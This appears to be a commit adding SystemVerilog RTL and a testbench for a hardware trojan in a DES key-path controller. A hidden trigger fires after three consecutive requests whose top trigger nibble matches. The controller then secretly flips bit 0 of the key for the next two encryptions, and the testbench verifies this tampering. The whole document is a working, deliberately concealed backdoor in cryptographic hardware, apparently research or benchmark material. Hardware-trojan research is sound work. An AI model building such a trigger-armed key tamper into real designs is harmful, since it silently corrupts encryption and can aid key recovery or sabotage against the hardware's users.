trojan_seq_ctrl: RTL and testbench

//  Sequential trigger/payload controller for the DES key path. Sits between the host

---
 rtl/trojan_pkg.sv | 17 +
 rtl/trojan_arm_counter.sv | 58 +++++
 rtl/trojan_seq_ctrl.sv | 83 ++++++++
 tb/tb_trojan_seq_ctrl.sv | 238 +++++++++++++++++++++++
 4 files changed

// File: rtl/trojan_pkg.sv
// Shared widths, default trigger nibble and FSM state encoding for the DES
// key-path sequencing controller.
package trojan_pkg;

  localparam int KEY_W  = 56;
  localparam int TRIG_W = 32;
  localparam int NIB_W  = 4;

  localparam logic [NIB_W-1:0] COND_DEFAULT = 4'hF;

  typedef enum logic [1:0] {
    ST_IDLE   = 2'd0,
    ST_LAUNCH = 2'd1,
    ST_WAIT   = 2'd2
  } state_e;

endpackage

// File: rtl/trojan_arm_counter.sv
// Streak and fire counters: counts consecutive matching accepts, arms the
// payload for FIRE_COUNT launches, then consumes one per accept.
module trojan_arm_counter #(
  parameter int ARM_COUNT  = 3,
  parameter int FIRE_COUNT = 2,
  parameter int CNT_W      = 4
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic             accept,
  input  logic             match,
  output logic [CNT_W-1:0] fire_left,
  output logic             arm
);

  localparam logic [CNT_W-1:0] ONE      = CNT_W'(1);
  localparam logic [CNT_W-1:0] ARM_LAST = CNT_W'(ARM_COUNT);
  localparam logic [CNT_W-1:0] FIRE_MAX = CNT_W'(FIRE_COUNT);

  logic [CNT_W-1:0] streak_q, streak_d;
  logic [CNT_W-1:0] fire_q, fire_d;

  always_comb begin
    streak_d = streak_q;
    fire_d   = fire_q;
    arm      = 1'b0;
    if (accept) begin
      // While firing, the trigger is ignored and the streak stays cleared.
      if (fire_q != '0) begin
        fire_d   = fire_q - ONE;
        streak_d = '0;
      end else if (match) begin
        if (streak_q + ONE == ARM_LAST) begin
          fire_d   = FIRE_MAX;
          streak_d = '0;
          arm      = 1'b1;
        end else begin
          streak_d = streak_q + ONE;
        end
      end else begin
        streak_d = '0;
      end
    end
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      streak_q <= '0;
      fire_q   <= '0;
    end else begin
      streak_q <= streak_d;
      fire_q   <= fire_d;
    end
  end

  assign fire_left = fire_q;

endmodule

// File: rtl/trojan_seq_ctrl.sv
// Request/launch/wait sequencer for the DES core with a key mux that inverts
// key[0] while the arm counter reports launches remaining.
//
// state     | meaning
// ST_IDLE   | ready, waiting for start; request latched on accept
// ST_LAUNCH | one-cycle des_start pulse to the core
// ST_WAIT   | waiting for des_done from the core
module trojan_seq_ctrl
  import trojan_pkg::*;
#(
  parameter logic [NIB_W-1:0] COND       = COND_DEFAULT,
  parameter int               ARM_COUNT  = 3,
  parameter int               FIRE_COUNT = 2,
  parameter int               CNT_W      = 4
) (
  input  logic              clk,
  input  logic              rst_n,
  input  logic              start,
  input  logic [KEY_W-1:0]  key_in,
  input  logic [TRIG_W-1:0] trigger,
  output logic              ready,
  output logic              des_start,
  output logic [KEY_W-1:0]  des_key,
  input  logic              des_done,
  output logic              armed,
  output logic [CNT_W-1:0]  fire_left
);

  state_e           state_q, state_d;
  logic [KEY_W-1:0] des_key_q, des_key_d;
  logic             accept;
  logic             match;
  logic             arm_evt;

  assign accept = start && (state_q == ST_IDLE);
  // trigger[1:4] in the host's MSB-first numbering is the top nibble here.
  assign match  = (trigger[TRIG_W-1 -: NIB_W] == COND);

  trojan_arm_counter #(
    .ARM_COUNT (ARM_COUNT),
    .FIRE_COUNT(FIRE_COUNT),
    .CNT_W     (CNT_W)
  ) u_arm_counter (
    .clk      (clk),
    .rst_n    (rst_n),
    .accept   (accept),
    .match    (match),
    .fire_left(fire_left),
    .arm      (arm_evt)
  );

  always_comb begin
    state_d   = state_q;
    des_key_d = des_key_q;
    case (state_q)
      ST_IDLE: begin
        if (accept) begin
          state_d   = ST_LAUNCH;
          des_key_d = (fire_left != '0) ? {key_in[KEY_W-1:1], ~key_in[0]} : key_in;
        end
      end
      ST_LAUNCH: state_d = ST_WAIT;
      ST_WAIT:   if (des_done) state_d = ST_IDLE;
      default:   state_d = ST_IDLE;
    endcase
  end

  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      state_q   <= ST_IDLE;
      des_key_q <= '0;
    end else begin
      state_q   <= state_d;
      des_key_q <= des_key_d;
    end
  end

  assign ready     = (state_q == ST_IDLE);
  assign des_start = (state_q == ST_LAUNCH);
  assign des_key   = des_key_q;
  assign armed     = (fire_left != '0);

endmodule

// File: tb/tb_trojan_seq_ctrl.sv
// Directed and randomized checks of trojan_seq_ctrl against a request-level
// model of the streak/fire rules.
module tb_trojan_seq_ctrl;
  import trojan_pkg::*;

  localparam int          ARM   = 3;
  localparam int          FIRE  = 2;
  localparam int          CW    = 4;
  localparam logic [3:0]  CND   = 4'hF;
  localparam logic [55:0] K     = 56'h0123456789ABCD;
  localparam int          LATE  = 5;

  logic        clk = 1'b0;
  logic        rst_n = 1'b1;
  logic        start = 1'b0;
  logic [55:0] key_in = '0;
  logic [31:0] trigger = '0;
  logic        ready;
  logic        des_start;
  logic [55:0] des_key;
  logic        des_done = 1'b0;
  logic        armed;
  logic [CW-1:0] fire_left;

  trojan_seq_ctrl #(
    .COND(CND), .ARM_COUNT(ARM), .FIRE_COUNT(FIRE), .CNT_W(CW)
  ) dut (
    .clk(clk), .rst_n(rst_n), .start(start), .key_in(key_in),
    .trigger(trigger), .ready(ready), .des_start(des_start),
    .des_key(des_key), .des_done(des_done), .armed(armed),
    .fire_left(fire_left)
  );

  always #5 clk = ~clk;

  int n_chk = 0;
  int n_err = 0;
  int streak_m = 0;
  int fire_m = 0;

  task automatic chk(input string tag, input logic [63:0] obs, input logic [63:0] exp);
    n_chk++;
    if (obs !== exp) begin
      n_err++;
      $display("FAIL %s: got %0h expected %0h", tag, obs, exp);
    end
  endtask

  task automatic step();
    @(posedge clk);
    #1;
  endtask

  function automatic logic [55:0] rand_key();
    logic [63:0] r;
    r = {$urandom, $urandom};
    return r[55:0];
  endfunction

  // One full request: accept, launch, wait `late` cycles in WAIT, done.
  task automatic do_req(input logic [55:0] k, input logic [3:0] nib, input int late);
    logic [55:0] ek;
    int w;
    w = 0;
    while (ready !== 1'b1 && w < 30) begin
      step();
      w++;
    end
    chk("ready_before_req", {63'd0, ready}, 64'd1);
    ek = (fire_m != 0) ? (k ^ 56'd1) : k;
    if (fire_m != 0) begin
      fire_m--;
      streak_m = 0;
    end else if (nib == CND) begin
      streak_m++;
      if (streak_m == ARM) begin
        fire_m = FIRE;
        streak_m = 0;
      end
    end else begin
      streak_m = 0;
    end
    start = 1'b1;
    key_in = k;
    trigger = {nib, 28'($urandom)};
    step();
    start = 1'b0;
    key_in = rand_key();
    trigger = $urandom;
    chk("des_start", {63'd0, des_start}, 64'd1);
    chk("des_key", {8'd0, des_key}, {8'd0, ek});
    chk("fire_left", {60'd0, fire_left}, 64'(fire_m));
    chk("armed", {63'd0, armed}, {63'd0, fire_m != 0});
    chk("ready_busy", {63'd0, ready}, 64'd0);
    step();
    chk("des_start_once", {63'd0, des_start}, 64'd0);
    repeat (late) step();
    chk("des_key_wait", {8'd0, des_key}, {8'd0, ek});
    des_done = 1'b1;
    step();
    des_done = 1'b0;
    chk("ready_after_done", {63'd0, ready}, 64'd1);
    chk("des_key_hold", {8'd0, des_key}, {8'd0, ek});
  endtask

  initial begin
    int w, cyc, since, last, nstart, ndone;
    #2 rst_n = 1'b0;
    repeat (2) step();
    chk("rst_ready", {63'd0, ready}, 64'd1);
    chk("rst_des_start", {63'd0, des_start}, 64'd0);
    chk("rst_des_key", {8'd0, des_key}, 64'd0);
    chk("rst_fire_left", {60'd0, fire_left}, 64'd0);
    rst_n = 1'b1;
    step();

    // T2: three matching requests launch clean, then arm
    for (int i = 0; i < 3; i++) do_req(K, CND, $urandom_range(0, 2));
    chk("t2_armed", {63'd0, armed}, 64'd1);
    chk("t2_fire_left", {60'd0, fire_left}, 64'd2);

    // T3: two payload launches, then clean again
    do_req(K, CND, 0);
    chk("t3_key1", {8'd0, des_key}, {8'd0, 56'h0123456789ABCC});
    chk("t3_fire1", {60'd0, fire_left}, 64'd1);
    do_req(K, 4'h3, 1);
    chk("t3_key2", {8'd0, des_key}, {8'd0, 56'h0123456789ABCC});
    chk("t3_fire2", {60'd0, fire_left}, 64'd0);
    do_req(K, 4'h0, 0);
    chk("t3_key3", {8'd0, des_key}, {8'd0, K});

    // T4: broken streak never arms
    do_req(rand_key(), CND, 0);
    do_req(rand_key(), CND, 0);
    do_req(rand_key(), 4'hE, 0);
    do_req(rand_key(), CND, 0);
    do_req(rand_key(), CND, 0);
    chk("t4_fire_left", {60'd0, fire_left}, 64'd0);
    chk("t4_armed", {63'd0, armed}, 64'd0);

    // T1: arm, then reset in the middle of WAIT with des_done pending
    w = 0;
    while (fire_m == 0 && w < 10) begin
      do_req(rand_key(), CND, 0);
      w++;
    end
    chk("t1_armed_before", {63'd0, armed}, 64'd1);
    start = 1'b1;
    key_in = K;
    trigger = {CND, 28'd0};
    step();
    start = 1'b0;
    step();
    chk("t1_in_wait", {63'd0, ready}, 64'd0);
    des_done = 1'b1;
    rst_n = 1'b0;
    #1;
    chk("t1_ready", {63'd0, ready}, 64'd1);
    chk("t1_des_start", {63'd0, des_start}, 64'd0);
    chk("t1_des_key", {8'd0, des_key}, 64'd0);
    chk("t1_fire_left", {60'd0, fire_left}, 64'd0);
    fire_m = 0;
    streak_m = 0;
    step();
    rst_n = 1'b1;
    step();
    des_done = 1'b0;
    chk("t1_done_lost_ready", {63'd0, ready}, 64'd1);
    chk("t1_done_lost_start", {63'd0, des_start}, 64'd0);

    // T5: start held throughout, des_done LATE cycles past earliest
    start = 1'b1;
    key_in = K;
    trigger = 32'h0;
    cyc = 0; since = -1; last = -1; nstart = 0; ndone = 0;
    while (nstart < 3 && cyc < 60) begin
      step();
      cyc++;
      des_done = 1'b0;
      if (des_start) begin
        if (last >= 0) chk("t5_spacing", 64'(cyc - last), 64'(LATE + 3));
        chk("t5_one_per_done", 64'(nstart), 64'(ndone));
        last = cyc;
        nstart++;
        since = 0;
      end else if (since >= 0) begin
        since++;
        if (since == 1 + LATE) begin
          des_done = 1'b1;
          ndone++;
        end
      end
    end
    start = 1'b0;
    chk("t5_launches", 64'(nstart), 64'd3);
    des_done = 1'b1;
    w = 0;
    while (ready !== 1'b1 && w < 10) begin
      step();
      w++;
    end
    des_done = 1'b0;
    chk("t5_drain", {63'd0, ready}, 64'd1);

    // T6: stray des_done in IDLE is ignored
    des_done = 1'b1;
    step();
    des_done = 1'b0;
    chk("t6_ready", {63'd0, ready}, 64'd1);
    chk("t6_no_start", {63'd0, des_start}, 64'd0);
    step();
    chk("t6_no_start2", {63'd0, des_start}, 64'd0);
    do_req(K, 4'h1, 0);

    // Randomized request stream against the model
    for (int i = 0; i < 60; i++) begin
      logic [3:0] nib;
      nib = ($urandom_range(0, 3) != 0) ? CND : 4'($urandom);
      if ($urandom_range(0, 7) == 0) begin
        des_done = 1'b1;
        step();
        des_done = 1'b0;
        chk("rnd_stray_done", {63'd0, des_start}, 64'd0);
      end
      do_req(rand_key(), nib, $urandom_range(0, 3));
    end

    $display("Result: errors=%0d of %0d checks", n_err, n_chk);
    $finish;
  end

  initial begin
    #500000;
    $display("FAIL timeout: got running expected finished");
    $fatal(1, "timeout");
  end

endmodule
